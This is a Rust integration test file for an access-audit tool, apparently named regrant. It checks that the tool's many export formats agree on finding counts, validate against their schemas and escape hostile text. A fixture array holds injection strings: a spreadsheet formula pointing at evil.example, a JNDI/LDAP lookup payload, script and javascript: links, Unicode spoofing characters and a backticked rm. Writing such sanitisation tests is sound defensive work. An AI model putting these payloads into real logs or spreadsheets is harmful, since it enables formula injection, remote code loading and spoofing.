//! What is written for other tools: valid where a schema exists, one count everywhere, whatever the text.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use calamine::Reader;
use parquet::file::reader::{FileReader, SerializedFileReader};
use parquet::record::RowAccessor;
use regrant::check::Severity;
use regrant::render::{self, Bundle, FORMATS, Formats, OcsfVersion, When};
use regrant::report::model::{Assessment, Finding, Standing, State};
use regrant::run::{self, Among, Conclusive, Demands, Report};
use serde_json::Value;

use crate::{root, sample, shared};

/// Text as an attacker would put it into a log.
const HOSTILE: [&str; 14] = [
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+1",
    "-2+3",
    "@everyone",
    "\t=1",
    "\r=1",
    "a,b;\"c\"\r\nd\ne",
    "before\0after\u{1}",
    "\u{202e}txt.exe\u{200b}",
    "<script>alert(1)</script></testcase>]]>|[x](javascript:1)",
    "${jndi:ldap://evil.example} {0} `rm` *b*",
    "山田太郎",
    " ",
    "",
];

type Counted = BTreeMap<(Severity, State), u64>;

fn hostile(mut report: Report) -> Report {
    let text = |number: usize| HOSTILE[number % HOSTILE.len()].to_owned();
    for (number, finding) in report.findings.iter_mut().enumerate() {
        finding.subject = text(number).into();
        finding.system = text(number + 1).into();
        finding.target = text(number + 2).into();
        finding.identity = text(number + 3).into();
        finding.identity_name = text(number + 4).into();
        finding.executor = text(number + 5).into();
        finding.approver = text(number + 6).into();
        finding.ticket = text(number + 7).into();
        finding.because = text(number + 8).into();
        finding.source_file = text(number + 9).into();
        finding.action = text(number + 10).into();
        finding.tier = text(number + 11).into();
        let facts = finding.evidence.iter().map(|(name, value)| (name.to_owned(), value.clone()));
        finding.evidence = facts.chain([(text(number), Value::String(text(number)).into())]).collect();
    }
    let a = &mut report.assessment;
    a.run.title = Some(text(9));
    a.limited_to = Some(text(6));
    for (number, input) in a.inputs.iter_mut().enumerate() {
        input.path = format!("{number}{}", text(number));
    }
    for (number, story) in a.identities.iter_mut().enumerate() {
        story.name = text(number);
        story.story = text(number + 9);
    }
    for (number, waiver) in a.waivers.iter_mut().enumerate() {
        waiver.reason = text(number + 6);
        waiver.requested_by = text(number + 7);
        waiver.approved_by = text(number + 9);
    }
    for (number, check) in a.checks.iter_mut().enumerate() {
        check.title = format!("x{}", text(number));
        check.inconclusive = Some(text(number + 6));
    }
    report
}

/// Every file of the report folder by its format.
fn all(report: &Report, ocsf: OcsfVersion) -> BTreeMap<&'static str, Vec<u8>> {
    let home = tempfile::tempdir().expect("a temporary folder");
    let dest = home.path().join("report");
    let page = |a: &Assessment, f: &[Finding]| render::html::render(a, f).map_err(|e| e.to_string());
    let bundle = Bundle {
        assessment: &report.assessment,
        findings: &report.findings,
        rejected: &report.rejected,
        subjects: None,
        run_toml: &report.run_toml,
        mapping_files: Vec::new(),
        formats: Formats::parse(["all"]).expect("a known word").with_ocsf(ocsf),
        html: Some(&page),
    };
    render::write(&bundle, &dest).unwrap_or_else(|e| panic!("{e}"));
    let wanted = |when: When| when == When::Always || when == When::Asked;
    let read = |file: &str| fs::read(dest.join(file)).unwrap_or_else(|e| panic!("{file}: {e}"));
    let manifest: Value = serde_json::from_slice(&read("manifest.json")).expect("JSON");
    let listed: Vec<&str> =
        manifest["files"].as_array().expect("a list").iter().filter_map(|f| f["path"].as_str()).collect();
    let files: BTreeMap<&str, Vec<u8>> =
        FORMATS.iter().filter(|f| wanted(f.when)).map(|f| (f.id, read(f.file))).collect();
    for format in FORMATS.iter().filter(|f| f.when == When::Asked) {
        assert!(listed.contains(&format.file), "the manifest does not cover {}", format.file);
    }
    files
}

fn json(bytes: &[u8]) -> Value {
    serde_json::from_slice(bytes).expect("JSON")
}

fn lines(bytes: &[u8]) -> Vec<Value> {
    bytes.split(|b| *b == b'\n').filter(|line| !line.is_empty()).map(json).collect()
}

fn text<'a>(value: &'a Value, member: &str) -> &'a str {
    value[member].as_str().unwrap_or_else(|| panic!("no {member} in {value}"))
}

fn severity(word: &str) -> Severity {
    word.parse().unwrap_or_else(|e| panic!("{e}"))
}

fn state(word: &str) -> State {
    match word {
        "open" => State::Open,
        "waived" => State::Waived,
        other => panic!("{other} is no state"),
    }
}

fn count(all: impl IntoIterator<Item = (Severity, State)>) -> Counted {
    let mut counted = Counted::new();
    for one in all {
        *counted.entry(one).or_default() += 1;
    }
    counted
}

fn prop<'a>(of: &'a Value, name: &str) -> Option<&'a str> {
    of["props"].as_array()?.iter().find(|p| p["name"] == name)?["value"].as_str()
}

/// Elements `name` of our own XML with their attributes, by a reader that knows no more than tags and quotes.
fn elements(xml: &str, name: &str) -> Vec<BTreeMap<String, String>> {
    let mut found = Vec::new();
    for piece in xml.split('<').skip(1) {
        let (tag, _) = piece.split_once('>').expect("every tag ends: `>` is escaped in text and attributes");
        let Some(attributes) = tag.strip_prefix(name).filter(|rest| rest.starts_with([' ', '/']) || rest.is_empty())
        else {
            continue;
        };
        let mut parts = attributes.trim_end_matches('/').split('"');
        let mut of = BTreeMap::new();
        while let (Some(key), Some(value)) = (parts.next(), parts.next()) {
            of.insert(key.trim().trim_end_matches('=').to_owned(), value.to_owned());
        }
        found.push(of);
    }
    found
}

/// Findings by severity and state, as each format tells them.
fn counts(files: &BTreeMap<&str, Vec<u8>>) -> BTreeMap<&'static str, Counted> {
    let word = |value: &Value| (severity(text(value, "severity")), state(text(value, "state")));
    let mut told = BTreeMap::new();
    told.insert("jsonl", count(lines(&files["jsonl"]).iter().map(word)));
    let mut reader = csv::Reader::from_reader(files["csv"].as_slice());
    told.insert(
        "csv",
        count(reader.records().map(|row| row.expect("a row")).map(|row| (severity(&row[3]), state(&row[4])))),
    );

    let sarif = json(&files["sarif"]);
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    let of_result = |r: &Value| {
        let suppressed = r["suppressions"].as_array().is_some_and(|s| !s.is_empty());
        let (severity, state) = word(&r["properties"]);
        assert_eq!(state == State::Waived, suppressed, "{r}");
        assert_eq!(r["kind"], "fail");
        (severity, state)
    };
    told.insert("sarif", count(results.iter().map(of_result)));

    let of_event = |event: &Value| {
        let severity = Severity::ALL[5 - event["severity_id"].as_u64().expect("a number") as usize];
        (severity, if event["status_id"] == 3 { State::Waived } else { State::Open })
    };
    told.insert("ocsf", count(lines(&files["ocsf"]).iter().map(of_event)));

    let oscal = json(&files["oscal"]);
    let result = &oscal["assessment-results"]["results"][0];
    let observed = result["observations"].as_array().expect("observations");
    let of_observation =
        |o: &Value| Some((severity(prop(o, "severity")?), state(prop(o, "state").expect("both or none"))));
    told.insert("oscal", count(observed.iter().filter_map(of_observation)));

    let hdf = json(&files["hdf"]);
    let controls = hdf["profiles"][0]["controls"].as_array().expect("controls");
    let failed =
        controls.iter().flat_map(|c| c["results"].as_array().expect("results")).filter(|r| r["status"] == "failed");
    told.insert("hdf", count(failed.map(word)));

    let xml = std::str::from_utf8(&files["junit"]).expect("UTF-8");
    let open = elements(xml, "failure").into_iter().map(|e| (severity(&e["type"]), State::Open));
    let waived = elements(xml, "skipped")
        .into_iter()
        .filter_map(|e| Some((severity(e["type"].strip_prefix("waived-")?), State::Waived)));
    told.insert("junit", count(open.chain(waived)));

    let mut book = calamine::Xlsx::new(std::io::Cursor::new(files["xlsx"].as_slice())).expect("a workbook");
    let sheet = book.worksheet_range("Findings").expect("a sheet");
    let cell = |row: &[calamine::Data], at: usize| row[at].to_string();
    told.insert("xlsx", count(sheet.rows().skip(1).map(|r| (severity(&cell(r, 3)), state(&cell(r, 4))))));
    let summary = book.worksheet_range("Summary").expect("a sheet");
    let mut in_summary = Counted::new();
    for row in summary.rows() {
        if let Ok(severity) = cell(row, 0).parse::<Severity>() {
            for (at, state) in [(1, State::Open), (2, State::Waived)] {
                let number: u64 = cell(row, at).parse().expect("a number");
                in_summary.entry((severity, state)).or_insert(number);
            }
        }
    }
    in_summary.retain(|_, number| *number > 0);
    told.insert("xlsx summary", in_summary);
    let plan = book.worksheet_range("Action plan").expect("a sheet");
    told.insert("xlsx action plan", count(plan.rows().skip(1).map(|r| (severity(&cell(r, 1)), State::Open))));

    let mut file = tempfile::tempfile().expect("a file");
    std::io::Write::write_all(&mut file, &files["parquet"]).expect("it takes everything");
    let reader = SerializedFileReader::new(file).expect("a file of Parquet");
    let of_row = |row: parquet::record::Row| {
        let word = |at: usize| row.get_string(at).expect("text").clone();
        (severity(&word(3)), state(&word(4)))
    };
    told.insert("parquet", count(reader.get_row_iter(None).expect("rows").map(|r| of_row(r.expect("a row")))));
    told
}

#[test]
fn every_export_tells_the_same_counts_as_the_assessment_and_the_exit_code() {
    for report in [sample(), hostile(sample())] {
        let files = all(&report, OcsfVersion::V1_6_0);
        let assessment: Assessment = serde_json::from_slice(&files["assessment"]).expect("an assessment");
        let mut expected = Counted::new();
        for (severity, total) in &assessment.totals {
            expected.insert((*severity, State::Open), total.open);
            expected.insert((*severity, State::Waived), total.waived);
        }
        expected.retain(|_, number| *number > 0);
        assert!(expected.keys().any(|(_, state)| *state == State::Waived), "the sample has waived findings");
        let told = counts(&files);
        assert_eq!(told.len(), 11);
        for (format, counted) in &told {
            let open_only = |c: &Counted| -> Counted {
                c.iter().filter(|((_, state), _)| *state == State::Open).map(|(k, v)| (*k, *v)).collect()
            };
            let expected = if *format == "xlsx action plan" { open_only(&expected) } else { expected.clone() };
            assert_eq!(*counted, expected, "{format}");
        }
        for least in Severity::ALL {
            let demands = Demands {
                fail_on: Some(least),
                among: Among::All,
                conclusive: Conclusive::NotRequired,
                max_rejected: 1.0,
            };
            let code = run::ending(&assessment, &demands).code();
            for (format, counted) in &told {
                let open = counted.iter().any(|((severity, state), _)| *severity <= least && *state == State::Open);
                assert_eq!(code == 10, open, "{format} and --fail-on {least} disagree");
            }
        }
        let page = String::from_utf8(files["markdown"].clone()).expect("UTF-8");
        let open: u64 = assessment.totals.values().map(|t| t.open).sum();
        let waived: u64 = assessment.totals.values().map(|t| t.waived).sum();
        assert!(
            page.contains(&format!("{open} open findings (")) && page.contains(&format!(", {waived} accepted, over"))
        );
        for (severity, total) in assessment.totals.iter().filter(|(_, total)| total.open > 0) {
            assert!(page.contains(&format!("{} {}", total.open, severity.as_str())), "{severity}");
        }
    }
}

pub fn assert_valid(schema: &Path, draft: Option<jsonschema::Draft>, instances: &[Value]) {
    let text = fs::read_to_string(schema).unwrap_or_else(|e| panic!("{}: {e}", schema.display()));
    let schema_value: Value = serde_json::from_str(&text).expect("a schema");
    let mut options = jsonschema::options();
    if let Some(draft) = draft {
        options = options.with_draft(draft);
    }
    let validator = options.build(&schema_value).unwrap_or_else(|e| panic!("{}: {e}", schema.display()));
    assert!(!instances.is_empty());
    assert!(!validator.is_valid(&Value::Array(Vec::new())), "{} admits anything", schema.display());
    for instance in instances {
        let wrong: Vec<String> =
            validator.iter_errors(instance).take(5).map(|e| format!("{}: {e}", e.instance_path())).collect();
        assert!(wrong.is_empty(), "{}\n{}", schema.display(), wrong.join("\n"));
    }
}

#[test]
fn every_export_is_valid_by_its_schema_whatever_the_text() {
    let Some(schemas) = shared("schemas") else { return };
    for report in [sample(), hostile(sample()), Report { findings: Vec::new(), ..sample() }] {
        for version in OcsfVersion::ALL {
            let files = all(&report, version);
            let events = lines(&files["ocsf"]);
            assert_eq!(events.len(), report.findings.len());
            for (class, name) in [(2003, "compliance_finding"), (2004, "detection_finding")] {
                let of_class: Vec<Value> = events.iter().filter(|e| e["class_uid"] == class).cloned().collect();
                assert!(of_class.iter().all(|e| e["metadata"]["version"] == version.as_str()));
                let schema = schemas.join(format!("ocsf-{}-{name}.derived.schema.json", version.as_str()));
                if !events.is_empty() {
                    assert_valid(&schema, None, &of_class);
                }
            }
            if version == OcsfVersion::default() {
                assert_valid(&schemas.join("sarif-schema-2.1.0.json"), None, &[json(&files["sarif"])]);
                let oscal = schemas.join("oscal_assessment-results_schema.json");
                assert_valid(&oscal, None, &[json(&files["oscal"])]);
                let hdf = schemas.join("hdf-exec-json.schema.json");
                assert_valid(&hdf, Some(jsonschema::Draft::Draft7), &[json(&files["hdf"])]);
                assert_junit(&schemas.join("junit-10.xsd"), &files["junit"]);
            }
        }
    }
}

/// By `xmllint` where there is one; by what the schema asks for in any case.
fn assert_junit(xsd: &Path, xml: &[u8]) {
    let text = std::str::from_utf8(xml).expect("UTF-8");
    let allowed: fn(char) -> bool = |c| !c.is_control() || c == '\n';
    assert!(text.chars().all(allowed), "characters that XML does not admit");
    let mut open: Vec<&str> = Vec::new();
    for piece in text.split('<').skip(1) {
        let (tag, _) = piece.split_once('>').expect("every tag ends");
        let name = tag.split([' ', '/']).next().unwrap_or_default();
        if tag.starts_with('?') {
            continue;
        }
        if let Some(closed) = tag.strip_prefix('/') {
            assert_eq!(open.pop(), Some(closed), "tags nest");
            continue;
        }
        let parent = match name {
            "testsuites" => None,
            "testsuite" => Some("testsuites"),
            "testcase" => Some("testsuite"),
            "failure" | "skipped" => Some("testcase"),
            other => panic!("the schema knows no <{other}>"),
        };
        assert_eq!(open.last().copied(), parent, "<{name}>");
        if !tag.ends_with('/') {
            open.push(name);
        }
    }
    assert!(open.is_empty());
    let suites = elements(text, "testsuite");
    let cases = elements(text, "testcase");
    let sum = |name: &str| suites.iter().map(|s| s[name].parse::<usize>().expect("a number")).sum::<usize>();
    assert_eq!(sum("tests"), cases.len());
    assert_eq!(sum("failures"), elements(text, "failure").len());
    assert_eq!(sum("skipped"), elements(text, "skipped").len());
    let mut names: Vec<_> = cases.iter().map(|c| (c["classname"].clone(), c["name"].clone())).collect();
    names.sort();
    names.dedup();
    assert_eq!(names.len(), cases.len(), "GitLab drops cases of the same name");

    let mut file = tempfile::NamedTempFile::new().expect("a file");
    std::io::Write::write_all(&mut file, xml).expect("it takes everything");
    match std::process::Command::new("xmllint").arg("--noout").arg("--schema").arg(xsd).arg(file.path()).output() {
        Ok(done) => assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr)),
        Err(_) => println!("skipped: xmllint is not installed"),
    }
}

#[test]
fn what_cannot_be_concluded_is_a_pass_in_no_export() {
    let report = sample();
    let files = all(&report, OcsfVersion::default());
    let mut open: Vec<&str> = Vec::new();
    let hdf = json(&files["hdf"]);
    let controls = hdf["profiles"][0]["controls"].as_array().expect("controls");
    for (check, control) in report.assessment.checks.iter().zip(controls) {
        let statuses: Vec<&str> =
            control["results"].as_array().expect("results").iter().map(|r| text(r, "status")).collect();
        assert!(!statuses.is_empty());
        if check.counts.indeterminate > 0 || check.verdict == Standing::CannotConclude {
            open.push(&check.id);
            assert!(!statuses.contains(&"passed"), "{}", check.id);
        }
    }
    assert!(!open.is_empty(), "the sample leaves something open");
    let xml = std::str::from_utf8(&files["junit"]).expect("UTF-8");
    let sarif = json(&files["sarif"]);
    let notes = sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"].as_array().expect("a list");
    let oscal = json(&files["oscal"]);
    let observed = oscal["assessment-results"]["results"][0]["observations"].as_array().expect("observations");
    for id in open {
        assert!(xml.contains(&format!("{id}: cannot conclude")), "{id}");
        assert!(notes.iter().any(|n| n["associatedRule"]["id"] == *id), "{id}");
        assert!(observed.iter().any(|o| prop(o, "check") == Some(id) && prop(o, "verdict").is_some()), "{id}");
    }
    let findings = oscal["assessment-results"]["results"][0]["findings"].as_array().expect("findings");
    let catalogue = report.assessment.frameworks.iter().find(|f| f.id == "nist-800-53-r5").expect("it is shipped");
    for requirement in &catalogue.requirements {
        let found =
            findings.iter().any(|f| prop(f, "requirement") == Some(&format!("nist-800-53-r5:{}", requirement.id)));
        let concluded =
            matches!(requirement.verdict, Standing::Fail | Standing::Pass) && !requirement.direct.is_empty();
        assert_eq!(found, concluded, "{}", requirement.id);
    }
}

#[test]
fn exports_are_the_same_bytes_again_and_name_nothing_of_this_run() {
    let (first, second) = (all(&sample(), OcsfVersion::V1_8_0), all(&sample(), OcsfVersion::V1_8_0));
    for (format, bytes) in &first {
        assert!(*bytes == second[format], "{format} differs from run to run");
    }
}

fn contents(folder: &Path) -> BTreeMap<String, Vec<u8>> {
    let files = walkdir::WalkDir::new(folder).into_iter().map(|e| e.expect("a readable folder"));
    files
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            let path = e.path().strip_prefix(folder).expect("below it").display().to_string();
            (path, fs::read(e.path()).expect("a readable file"))
        })
        .collect()
}

fn regrant(arguments: &[&str]) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_regrant")).args(arguments).output().expect("the program starts")
}

fn audited(dest: &Path, formats: &str) {
    let input = root().join("sample-data");
    let config = input.join("regrant.toml");
    let arguments = [
        "audit",
        &input.to_string_lossy(),
        "-c",
        &config.to_string_lossy(),
        "-q",
        "-o",
        &dest.to_string_lossy(),
        "--format",
        formats,
    ];
    let done = regrant(&arguments);
    assert_eq!(done.status.code(), Some(0), "{}", String::from_utf8_lossy(&done.stderr));
}

#[test]
fn a_saved_report_renders_to_the_bytes_an_audit_would_have_written() {
    let home = tempfile::tempdir().expect("a temporary folder");
    let [page, everything, again] = ["page", "everything", "again"].map(|name| home.path().join(name));
    audited(&page, "html");
    audited(&everything, "all");
    let as_audited = contents(&page);
    let (from, to) = (page.to_string_lossy().into_owned(), again.to_string_lossy().into_owned());
    let done = regrant(&["render", &from, "--format", "all", "-o", &to]);
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    let (expected, rendered) = (contents(&everything), contents(&again));
    assert_eq!(rendered.keys().collect::<Vec<_>>(), expected.keys().collect::<Vec<_>>());
    for (path, bytes) in &expected {
        assert!(rendered[path] == *bytes, "{path} is not as the audit wrote it");
    }
    assert!(regrant(&["render", &from]).status.success());
    assert!(contents(&page) == as_audited, "the same formats again, in place");
    assert!(regrant(&["render", &from, "--format", "sarif"]).status.success());
    let files: Vec<String> = contents(&page).into_keys().collect();
    assert!(files.contains(&"index.html".to_owned()) && files.contains(&"findings.sarif".to_owned()), "{files:?}");
}

#[test]
fn a_report_that_was_changed_is_not_rendered() {
    let home = tempfile::tempdir().expect("a temporary folder");
    let report = home.path().join("report");
    audited(&report, "markdown");
    let place = report.to_string_lossy().into_owned();
    let findings = report.join("findings.jsonl");
    let text = fs::read_to_string(&findings).expect("findings");
    fs::write(&findings, text.replacen("\"open\"", "\"waiv\"", 1)).expect("it is writable");
    let done = regrant(&["render", &place]);
    let said = String::from_utf8_lossy(&done.stderr).into_owned();
    assert_eq!(done.status.code(), Some(1));
    assert!(said.contains("findings.jsonl: is not as the manifest has it") && said.contains("help:"), "{said}");
    let done = regrant(&["render", &home.path().to_string_lossy()]);
    assert!(String::from_utf8_lossy(&done.stderr).contains("holds no report of regrant"));
}

/// What somebody mistypes at two in the morning destroys nothing, and the answer says what was meant.
#[test]
fn slips_of_the_hand_are_answered_with_what_was_meant() {
    let home = tempfile::tempdir().expect("a temporary folder");
    let at = |name: &str| home.path().join(name).to_string_lossy().into_owned();
    let input = root().join("sample-data").to_string_lossy().into_owned();
    let refused = |arguments: &[&str], with: &[&str]| {
        let done = regrant(arguments);
        let said = String::from_utf8_lossy(&done.stderr).into_owned();
        assert_eq!(done.status.code(), Some(1), "{arguments:?}: {said}");
        with.iter().for_each(|part| assert!(said.contains(part), "{arguments:?}: {said}"));
    };
    audited(&home.path().join("report"), "html");
    let report = contents(&home.path().join("report"));
    refused(
        &["hunt", &input, "-q", "-o", &at("report")],
        &["holds the report of an audit", "help: a hunt replaces only"],
    );
    assert!(contents(&home.path().join("report")) == report);
    let done = regrant(&["hunt", &input, "-q", "-o", &at("hunt")]);
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    refused(&["audit", &input, "-q", "-o", &at("hunt")], &["holds a hunt", "help: "]);
    // Whoever reads a name in the report types that name.
    for verb in ["audit", "hunt"] {
        let done = regrant(&[verb, &input, "-q", "-o", &at(verb), "--identity", "tobias ACHTERBERG"]);
        assert!(done.status.success(), "{verb}: {}", String::from_utf8_lossy(&done.stderr));
        refused(&[verb, &input, "-q", "-o", &at("no"), "--identity", "tobias"], &["did you mean ", "obias"]);
        refused(&[verb, &input, "-q", "-o", &at("no"), "--identity", "no such"], &["help: "]);
    }
    let key = home.path().join("key.pub");
    fs::write(&key, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE somebody\n").expect("a file");
    refused(
        &["audit", &input, "-q", "-o", &at("no"), "--sign-key", &at("key.pub")],
        &["public half", "without `.pub`"],
    );
    // A finding is known by what it is about, too.
    for name in ["dp-26113", "Marcus Thorne-Bailey"] {
        let said = regrant(&["explain", name, "--report", &at("report")]).stdout;
        let said = String::from_utf8_lossy(&said).into_owned();
        assert!(said.contains(" findings about ") && said.contains("reset-after-offboarding"), "{said}");
    }
    refused(&["explain", "missing-aproval", "--report", &at("report")], &["did you mean `missing-approval`?"]);
    let demo = regrant(&["demo", "-q", "-o", &at("demo")]);
    assert!(demo.status.success() && home.path().join("demo/report/index.html").exists());
    let version = regrant(&["--version"]).stdout;
    assert!(String::from_utf8_lossy(&version).starts_with(concat!("regrant ", env!("CARGO_PKG_VERSION"), " (commit ")));
}

/// Every name, alias, address and id of people, and every ticket, that the sample's registers and logs hold.
fn people_of_the_sample() -> Vec<String> {
    let folder = root().join("sample-data");
    let mut found = std::collections::BTreeSet::new();
    let address = regex::Regex::new(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+|\b\d{1,3}(?:\.\d{1,3}){3}\b|\bHARBOUR\\+\w+")
        .expect("a pattern");
    for entry in walkdir::WalkDir::new(&folder) {
        let entry = entry.expect("a readable folder");
        if !entry.file_type().is_file() || entry.file_name() == "README.md" {
            continue;
        }
        let bytes = fs::read(entry.path()).expect("a readable file");
        let mut text = String::new();
        let read = match entry.path().extension().and_then(|e| e.to_str()) {
            Some("gz") => {
                std::io::Read::read_to_string(&mut flate2::read::MultiGzDecoder::new(bytes.as_slice()), &mut text)
            }
            _ => std::io::Read::read_to_string(&mut bytes.as_slice(), &mut text),
        };
        if read.is_err() {
            continue;
        }
        found.extend(address.find_iter(&text).map(|m| m.as_str().replace("\\\\", "\\")));
        let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(text.as_bytes());
        let Ok(header) = reader.headers().cloned() else { continue };
        let naming =
            ["name", "person_id", "workload_id", "credential_id", "ticket", "target", "executor", "account", "reason"];
        for row in reader.records().flatten() {
            for (column, cell) in header.iter().zip(&row) {
                // Reasons of a word or two, such as "schedule", are words of our own prose as well.
                let least = if column == "reason" { 24 } else { 3 };
                if naming.contains(&column) && cell.chars().count() > least {
                    found.insert(cell.to_owned());
                }
            }
        }
    }
    found.into_iter().collect()
}

#[test]
fn a_redacted_report_names_nobody_in_any_output() {
    let people = people_of_the_sample();
    assert!(people.len() > 500 && people.iter().any(|name| name == "Marcus Thorne-Bailey"), "{}", people.len());
    let home = tempfile::tempdir().expect("a temporary folder");
    let key = home.path().join("redact.key");
    fs::write(&key, "0f1e2d3c4b5a69788796a5b4c3d2e1f0\n").expect("it is writable");
    let input = root().join("sample-data");
    let (input, config) =
        (input.to_string_lossy().into_owned(), input.join("regrant.toml").to_string_lossy().into_owned());
    let redacted = |name: &str, more: &[&str]| {
        let dest = home.path().join(name);
        let place = dest.to_string_lossy().into_owned();
        let key = key.to_string_lossy().into_owned();
        let fixed = ["audit", &input, "-c", &config, "-o", &place, "--redact", "--redact-key-file", &key];
        let done = regrant(&fixed.iter().chain(more).copied().collect::<Vec<_>>());
        assert_eq!(done.status.code(), Some(0), "{}", String::from_utf8_lossy(&done.stderr));
        (contents(&dest), done.stdout)
    };
    let (files, said) = redacted("one", &["--format", "all"]);
    let mut texts: BTreeMap<String, String> = BTreeMap::new();
    for (path, bytes) in &files {
        let plain = match path.as_str() {
            "subjects.jsonl.zst" => zstd::decode_all(bytes.as_slice()).expect("a whole frame"),
            // Compressed inside; read back below.
            "findings.xlsx" | "findings.parquet" => continue,
            _ => bytes.clone(),
        };
        texts.insert(path.clone(), String::from_utf8(plain).expect("UTF-8"));
    }
    texts.insert("standard output".to_owned(), String::from_utf8(said).expect("UTF-8"));
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(files["findings.xlsx"].as_slice())).expect("a workbook");
    for name in book.sheet_names() {
        let sheet = book.worksheet_range(&name).expect("a sheet");
        let cells: Vec<String> = sheet.rows().flatten().map(ToString::to_string).collect();
        texts.insert(format!("findings.xlsx, {name}"), cells.join("\n"));
    }
    let mut file = tempfile::tempfile().expect("a file");
    std::io::Write::write_all(&mut file, &files["findings.parquet"]).expect("it takes everything");
    let reader = SerializedFileReader::new(file).expect("a file of Parquet");
    let rows: Vec<String> =
        reader.get_row_iter(None).expect("rows").map(|r| format!("{:?}", r.expect("a row"))).collect();
    texts.insert("findings.parquet".to_owned(), rows.join("\n"));
    let mut spellings = std::collections::BTreeSet::new();
    for name in &people {
        spellings.extend([name.clone(), name.replace('\\', "\\\\")]);
        if name.contains(['@', ' ', '\\']) {
            // Not of ids: `e1095` also stands in digests.
            spellings.insert(name.to_lowercase());
        }
    }
    // One pass for all of them: thousands of names over megabytes.
    let names: Vec<String> = spellings.iter().map(|spelt| regex::escape(spelt)).collect();
    let names = regex::RegexBuilder::new(&names.join("|")).size_limit(1 << 28).build().expect("a pattern");
    let mut leaks = Vec::new();
    for (path, text) in &texts {
        for found in names.find_iter(text) {
            let at = found.start();
            let from = text[..at].char_indices().rev().nth(60).map_or(0, |(i, _)| i);
            let around: String = text[from..].chars().take(160).collect();
            leaks.push(format!("{path}: {} in …{around}…", found.as_str()));
        }
    }
    assert!(leaks.is_empty(), "{} leaks\n{}", leaks.len(), leaks[..leaks.len().min(12)].join("\n"));

    // The same key: the same pseudonyms, so that two reports can be compared; the counts are those of the plain one.
    let (again, _) = redacted("two", &["--format", "all", "--baseline", &home.path().join("one").to_string_lossy()]);
    assert!(again["findings.jsonl"] == files["findings.jsonl"], "pseudonyms differ from run to run");
    let plain: Value = json(&contents_of_sample(home.path())["assessment.json"]);
    let of = |files: &BTreeMap<String, Vec<u8>>| json(&files["assessment.json"])["totals"].clone();
    assert_eq!(of(&files), plain["totals"]);

    let refused = |more: &[&str]| {
        let place = home.path().join("refused").to_string_lossy().into_owned();
        let fixed = ["audit", &input, "-c", &config, "-o", &place, "--redact"];
        let done = regrant(&fixed.iter().chain(more).copied().collect::<Vec<_>>());
        assert_eq!(done.status.code(), Some(1));
        String::from_utf8_lossy(&done.stderr).into_owned()
    };
    assert!(refused(&[]).contains("help: make one with `openssl rand -hex 32"));
    fs::write(home.path().join("short.key"), "secret\n").expect("it is writable");
    let short = home.path().join("short.key").to_string_lossy().into_owned();
    assert!(refused(&["--redact-key-file", &short]).contains("the key has 6 bytes"));
    let named = home.path().join("plain").to_string_lossy().into_owned();
    let with_key = ["--redact-key-file", &key.to_string_lossy(), "--baseline", &named].map(str::to_owned);
    assert!(
        refused(&with_key.iter().map(String::as_str).collect::<Vec<_>>()).contains("is not redacted with this key")
    );
}

fn contents_of_sample(home: &Path) -> BTreeMap<String, Vec<u8>> {
    let dest = home.join("plain");
    audited(&dest, "markdown");
    contents(&dest)
}

#[test]
fn markdown_holds_hostile_text_in_code() {
    let files = all(&hostile(sample()), OcsfVersion::default());
    let page = String::from_utf8(files["markdown"].clone()).expect("UTF-8");
    for line in page.lines() {
        let outside = outside_code(line).replace("\\]", "").replace("\\$", "");
        for never in ["<script", "@everyone", "](javascript:", "${jndi", "\u{202e}", "\u{200b}"] {
            assert!(!outside.contains(never), "{never} stands outside code in: {line}");
        }
    }
    assert!(page.chars().all(|c| !c.is_control() || c == '\n'));
    // Tables keep their columns: a bar of the data ends no cell.
    let mut table = Vec::new();
    for line in page.lines().chain([""]) {
        if line.starts_with('|') {
            table.push(line.replace("\\|", "").matches('|').count());
        } else if !table.is_empty() {
            assert!(table.iter().all(|bars| *bars == table[0]), "{line}");
            table.clear();
        }
    }
}

/// A line without its code spans.
fn outside_code(line: &str) -> String {
    let mut out = String::new();
    let mut rest = line;
    while let Some(start) = rest.find('`') {
        if rest[..start].ends_with('\\') {
            out.push_str(&rest[..=start]);
            rest = &rest[start + 1..];
            continue;
        }
        out.push_str(&rest[..start]);
        let fence_length = rest[start..].chars().take_while(|c| *c == '`').count();
        let after = &rest[start + fence_length..];
        let fence = "`".repeat(fence_length);
        let end = after.find(&fence).unwrap_or_else(|| panic!("a span that does not end: {line}"));
        rest = &after[end + fence_length..];
    }
    out + rest
}
